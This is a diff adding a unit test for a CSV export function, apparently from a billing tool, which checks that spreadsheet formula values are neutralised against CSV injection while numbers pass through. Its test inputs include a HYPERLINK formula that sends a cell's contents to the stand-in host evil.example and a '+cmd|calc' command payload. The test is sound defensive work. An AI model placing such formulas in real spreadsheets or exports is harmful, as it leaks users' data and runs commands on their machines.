@@ -53,4 +53,17 @@ describe('renderCsv', () => {
       'tenant,meter,gpu_sku,mig_profile,capacity_type,instance_type,storage_class,zone,quantity,unit,records,rate,discount_percent,amount,currency',
     );
   });
+
+  it('defuses values a spreadsheet would run as formulas (OWASP CSV injection), but not numbers', () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
+      '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"',
+    );
+    expect(csvField('+cmd|calc')).toBe("'+cmd|calc");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
+    expect(csvField('\t=1')).toBe("'\t=1");
+    expect(csvField('-12.50')).toBe('-12.50');
+    expect(csvField('+3')).toBe('+3');
+    expect(csvField('team-a')).toBe('team-a');
+  });
 });
